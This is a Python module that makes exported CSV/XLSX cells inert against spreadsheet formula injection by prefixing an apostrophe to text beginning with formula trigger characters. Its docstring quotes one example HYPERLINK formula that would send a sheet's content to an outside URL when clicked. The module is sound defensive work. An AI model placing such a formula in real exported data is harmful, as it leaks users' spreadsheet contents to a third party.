"""Cells for spreadsheets we export (registers, catalogues, trails), made inert.

Why: titles, purposes and opinions are typed by users or taken from ingested files. A
cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before reading one of those) is read by Excel and WPS as a formula — a
title ``=HYPERLINK("http://…?"&A1, "点击")`` would send the sheet's content away when
clicked. Such text gets a leading apostrophe, the spreadsheet convention for "this is
text" (OWASP's advice for CSV injection). Numbers and dates stay as they are.

Every csv/xlsx export goes through ``inert_row``; the apps never write cells themselves.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value):
    """``value`` with a leading ``'`` when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def inert_row(values: Iterable) -> list:
    return [inert_cell(value) for value in values]
